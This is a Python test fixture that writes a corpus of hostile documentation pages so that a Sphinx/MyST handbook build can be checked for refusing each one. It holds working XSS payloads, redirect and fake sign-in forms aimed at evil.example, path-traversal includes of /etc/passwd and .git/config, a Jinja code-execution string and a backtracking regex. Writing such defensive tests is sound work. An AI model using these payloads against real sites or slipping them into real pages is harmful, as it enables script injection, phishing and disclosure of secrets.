"""The hostile corpus of #18: one minimal page (or file) per attack a pull request can make.

Each :class:`Attack` is written into a copy of ``tests/roots/test-check`` by
:func:`make_corpus`, which also puts a secret with a unique marker *outside* the handbook
(``../outside/``, and in ``.git/``, a hidden folder of the handbook) that no output may ever
contain. Every attack must end as the located errors it lists (``expect``), or as inert output
when it lists none; ``tests/test_safety.py`` checks the build and ``check``,
``tests/browser/test_hostile.py`` loads every page in chromium.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import uuid
from dataclasses import dataclass, field
from pathlib import Path

TESTS = Path(__file__).resolve().parent
CHECK_ROOT = TESTS / "roots" / "test-check"
EVIL = "https://evil.example"  #: no request may ever go there (nor anywhere off the site)
#: What a secret outside the handbook is called, seen from a page in hostile/.
OUT = "../../outside"


@dataclass(frozen=True)
class Attack:
    name: str
    page: str  #: the text of hostile/<name>.md ("" when the attack is only ``files``)
    #: (path, line, code) of every error the build and ``check`` must report; empty: inert
    expect: tuple[tuple[str, int, str], ...] = ()
    files: dict[str, str] = field(default_factory=dict)  #: more files, relative to the root
    links: dict[str, str] = field(default_factory=dict)  #: symlinks: path -> target

    @property
    def path(self) -> str:
        return f"hostile/{self.name}.md"


def _at(name: str, line: int, code: str = "html.not-allowed") -> tuple[str, int, str]:
    return (f"hostile/{name}.md", line, code)


def _page(name: str, *lines: str, expect: tuple[tuple, ...] = (), **more: object) -> Attack:
    """A page whose attack starts on line 3 (after its heading and a blank line); ``expect``
    holds ``(line, code)`` on the page itself or a full ``(path, line, code)``."""
    text = f"# {name}\n\n" + "\n".join(lines) + "\n"
    return Attack(name, text, tuple(e if len(e) == 3 else _at(name, *e) for e in expect),
                  **more)  # type: ignore[arg-type]


NA, OUTSIDE = "html.not-allowed", "safety.outside"
SVG = ("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>")

ATTACKS: list[Attack] = [
    # --- raw HTML that would run script, redirect or leak: refused at its line
    _page("script", "<script>alert(1)</script>", expect=((3, NA),)),
    _page("handler", "A <img src=x.png onerror=alert(1)> inline.", expect=((3, NA),)),
    _page("iframe-srcdoc", '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
          expect=((3, NA),)),
    _page("base-href", f'<base href="{EVIL}/">', expect=((3, NA),)),
    _page("meta-refresh", f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
          expect=((3, NA),)),
    _page("object-svg", '<object data="data:image/svg+xml;base64,'
          'PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">'
          "</object>", expect=((3, NA),)),
    _page("iframe-data-svg", f'<iframe src="data:image/svg+xml,{SVG}"></iframe>',
          expect=((3, NA),)),
    _page("form-action", f'<form action="{EVIL}/login"><input name="password">'
          "<button>Sign in</button></form>", expect=((3, NA),)),
    _page("javascript-href", '<a href="jav&#x09;ascript:alert(1)">x</a>', expect=((3, NA),)),
    _page("comment-trick", "<!--><img src=x onerror=alert(1)>-->", expect=((3, NA),)),
    _page("noscript-mutation",
          '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
          expect=((3, NA),)),
    _page("svg-inline", SVG, expect=((3, NA),)),
    _page("style-overlay", '<div style="position:fixed;inset:0;background:url('
          f"{EVIL}/x.png)\">Sign in again</div>", expect=((3, NA),)),
    _page("remote-img-html", f'<img src="{EVIL}/pixel.png" alt="">', expect=((3, NA),)),
    _page("nested-in-directive", ":::{note}", "Inside a note:", "", "<script>alert(1)</script>",
          ":::", expect=((6, NA),)),
    _page("raw-directive", "```{raw} html", "<b onmouseover=alert(1)>x</b>", "```",
          expect=((3, NA),)),  # at the directive
    _page("rst-raw", "```{eval-rst}", ".. raw:: html", "",
          f'   <SCRIPT src="{EVIL}/x.js"></SCRIPT>', "```", expect=((4, NA),)),
    _page("rst-raw-role", "```{eval-rst}", ".. role:: raw-html(raw)", "   :format: html", "",
          "Text :raw-html:`<img src=x onerror=alert(1)>`.", "```", expect=((7, NA),)),
    _page("rst-javascript-link", "```{eval-rst}", "`click <javascript:alert(1)>`_", "```",
          expect=((4, "html.link"),)),
    _page("remote-image", f"![pixel]({EVIL}/pixel.png)", expect=((3, "safety.image"),)),
    # --- files from outside the content: refused before they are read
    _page("raw-file", "```{raw} html", f":file: {OUT}/secret.html", "```",
          expect=((3, "safety.raw-file"),)),
    _page("raw-url", "```{raw} html", ":url: file:///etc/passwd", "```",
          expect=((3, "safety.raw-file"),)),
    _page("rst-raw-file", "```{eval-rst}", ".. raw:: html", f"   :file: {OUT}/secret.html",
          "```", expect=((4, "safety.raw-file"),)),
    _page("include-outside", "```{include} /etc/passwd", "```",
          expect=((3, "missing"),)),  # Sphinx reads "/..." from the handbook's folder
    _page("include-passwd", "```{include} " + "../" * 30 + "etc/passwd", "```",
          expect=((3, OUTSIDE),)),
    _page("include-relative", f"```{{include}} {OUT}/secret.md", "```",
          expect=((3, OUTSIDE),)),
    _page("include-dev-zero", "```{include} " + "../" * 30 + "dev/zero", "```",
          expect=((3, OUTSIDE),)),
    _page("include-git", "```{include} ../.git/config", "```", expect=((3, OUTSIDE),)),
    _page("literalinclude", f"```{{literalinclude}} {OUT}/secret.md", "```",
          expect=((3, OUTSIDE),)),
    _page("literalinclude-diff", "```{literalinclude} ../index.md",
          f":diff: {OUT}/secret.md", "```", expect=((3, OUTSIDE),)),
    _page("csv-file", "```{csv-table}", f":file: {OUT}/secret.csv", "```",
          expect=((3, OUTSIDE),)),
    _page("csv-url", "```{csv-table}", f":url: {EVIL}/x.csv", "```", expect=((3, OUTSIDE),)),
    _page("image-outside", f"```{{image}} {OUT}/secret.png", "```", expect=((3, OUTSIDE),)),
    _page("figure-outside", f"```{{figure}} {OUT}/secret.png", "Caption", "```",
          expect=((3, OUTSIDE),)),
    _page("markdown-image", f"![secret]({OUT}/secret.png)", expect=((3, OUTSIDE),)),
    _page("download-outside", f"{{download}}`secret <{OUT}/secret.md>`",
          expect=((3, OUTSIDE),)),
    _page("image-symlink", "![leak](leak.png)",
          expect=((3, OUTSIDE), ("hostile/leak.png", 1, OUTSIDE)),
          links={"hostile/leak.png": f"{OUT}/secret.png"}),
    # a file inside the content that is not Markdown: read, but its HTML is checked
    _page("include-html", "```{include} snippet.html", "```",
          expect=(("hostile/snippet.html", 1, NA),),
          files={"hostile/snippet.html": "<script>alert(1)</script>\n"}),
    # --- substitutions: names only, nothing runs
    Attack("substitution-assembles-script",
           "---\nmyst:\n  substitutions:\n    open: \"<scr\"\n    rest: \"ipt>alert(1)</script>\"\n"
           "    whole: \"<script>alert(2)</script>\"\n---\n# Substitutions\n\n"
           "{{ open }}{{ rest }} and {{ whole }} and {{ open ~ rest }}\n",
           expect=(_at("substitution-assembles-script", 10),
                   _at("substitution-assembles-script", 10, "safety.substitution"))),
    _page("jinja-runs-code",
          "{{ lipsum.__globals__['os'].popen('touch PWNED-BY-JINJA').read() }}",
          expect=((3, "safety.substitution"),)),
    _page("jinja-env", "Built in {{ env.srcdir }}.", expect=((3, "safety.substitution"),)),
    Attack("front-matter-meta",
           "---\nmyst:\n  html_meta:\n    \"http-equiv=refresh\": \"0;url="
           f"{EVIL}/\"\n---\n# Meta\n\nText.\n",
           expect=(_at("front-matter-meta", 4, "html.meta"),)),
    _page("rst-meta-refresh", "```{eval-rst}", ".. meta::",
          f"   :http-equiv=refresh: 0;url={EVIL}/", "```",
          expect=((5, "html.meta"),)),
    # inline HTML is located at its own line, not its paragraph's first
    _page("inline-html-lines", "First line of a paragraph,",
          "second line with <img src=x.png onerror=alert(1)> inline,", "third line.", "",
          "- item one", "- item two <b onclick=alert(2)>x</b>",
          "  continued <i onclick=alert(3)>y</i>", expect=((4, NA), (8, NA), (9, NA))),
    # --- a bibliography filter's pattern runs in Python's backtracking `re`: plain text only
    _page("bibliography-regex", "```{bibliography}", ':filter: title % "(a+)+$"', "```",
          expect=((3, "safety.filter"),)),
    _page("bibliography-field-pattern", "```{bibliography}", ":filter: title % note", "```",
          expect=((3, "safety.filter"),)),
    _page("bibliography-bad-pattern", "```{eval-rst}", ".. bibliography::",
          '   :filter: title % "["', "```", expect=((4, "safety.filter"),)),
    # --- inert: what a page may write stays, harmless
    _page("allowed-markup", "<b>bold</b> and <a href=\"https://example.org/\" "
          "target=\"_blank\">a link</a>", "",
          "<details><summary>More</summary>", "", "Markdown *inside*.", "", "</details>",
          "", "<table><tr><td>cell</td></tr></table>"),
    _page("code-is-text", "```html", "<script>alert(1)</script>", "```", "",
          "`<img src=x onerror=alert(1)>` and [x](javascript:alert(1))"),
    _page("entities-are-text", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    _page("bibliography-plain-filter", "```{bibliography}",
          ':filter: author % "Wu, Lijun" and title % "^a|b$" or "x" in keywords',
          ":keyprefix: plain-", "```"),
    # --- files that are not pages
    Attack("symlinks", "", expect=(("_static/leak.txt", 1, OUTSIDE),
                                   ("bib/leak.bib", 1, OUTSIDE),
                                   ("guides/leak.md", 1, OUTSIDE)),
           links={"_static/leak.txt": "../../outside/secret.md",
                  "bib/leak.bib": "../../outside/secret.bib",
                  "guides/leak.md": "../../outside/secret.md"}),
    Attack("svg-photo", "", expect=(("people/eve.md", 6, "registry.photo"),),
           files={"people/eve.md": "---\nname: Eve Evil\nrole: phd\njoined: 2020\n"
                  "photo_alt: A portrait\nphoto: eve.png\n---\n\n# Eve Evil\n",
                  "people/eve.png": SVG}),
    Attack("photo-in-git", "", expect=(("people/mallory.md", 6, "registry.missing-photo"),),
           files={"people/mallory.md": "---\nname: Mallory Evil\nrole: phd\njoined: 2020\n"
                  "photo_alt: A portrait\nphoto: ../.git/config\n---\n\n# Mallory Evil\n"}),
]


def make_corpus(dest: Path, layout: str = "a") -> tuple[Path, str]:
    """Write the corpus into ``dest/src`` (secrets into ``dest/outside``); return the source
    folder and the marker that no output may contain. ``layout`` "b" turns on theme options
    that print more of each page (breadcrumbs, deeper tables of contents, source buttons)."""
    marker = f"SECRET-{uuid.uuid4().hex}"
    outside = dest / "outside"
    outside.mkdir(parents=True)
    for name in ("secret.md", "secret.html", "secret.csv", "secret.bib", "secret.png"):
        (outside / name).write_text(f"{marker}\n", encoding="utf-8")
    root = dest / "src"
    shutil.copytree(CHECK_ROOT, root)
    (root / ".git").mkdir()
    (root / ".git/config").write_text(f"[remote]\n  token = {marker}\n", encoding="utf-8")
    for folder in ("hostile", "_static", "guides"):
        (root / folder).mkdir(exist_ok=True)
    conf = root / "conf.py"
    conf.write_text(conf.read_text(encoding="utf-8").replace(
        'html_static_path = []', 'html_static_path = ["_static"]') + (
        'myst_enable_extensions = ["colon_fence", "substitution"]\n'
        'myst_substitutions = {"lab": "Check lab"}\n'), encoding="utf-8")
    if layout == "b":
        with conf.open("a", encoding="utf-8") as f:
            f.write('html_theme_options = {"show_toc_level": 3, "use_source_button": True, '
                    '"use_download_button": True, "use_fullscreen_button": True, '
                    '"article_header_start": ["breadcrumbs", "toggle-primary-sidebar.html"], '
                    '"repository_url": "https://github.com/example/lab", "path_to_docs": "", '
                    '"use_edit_page_button": True}\nhtml_title = "Check lab {{ lab }}"\n')
    (root / "index.md").write_text(
        (root / "index.md").read_text(encoding="utf-8") +
        "\n```{toctree}\n:glob:\n:hidden:\n\nhostile/*\nguides/*\n```\n", encoding="utf-8")
    (root / "guides/ok.md").write_text("# A guide\n\nPlain.\n", encoding="utf-8")
    for attack in ATTACKS:
        if attack.page:
            (root / attack.path).write_text(attack.page, encoding="utf-8")
        for rel, text in attack.files.items():
            (root / rel).write_text(text, encoding="utf-8")
        for rel, target in attack.links.items():
            os.symlink(target, root / rel)
    return root, marker


def build(src: Path, out: Path, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    """``sphinx-build`` as ``make html`` runs it, in a new process (safe next to Playwright)."""
    return subprocess.run(
        [sys.executable, "-m", "sphinx", "-b", "html", "--keep-going", "-n", "-q",
         "-d", str(out / "doctrees"), str(src), str(out / "html")],
        capture_output=True, text=True, timeout=timeout, cwd=src,
        env={**os.environ, "NO_COLOR": "1"})
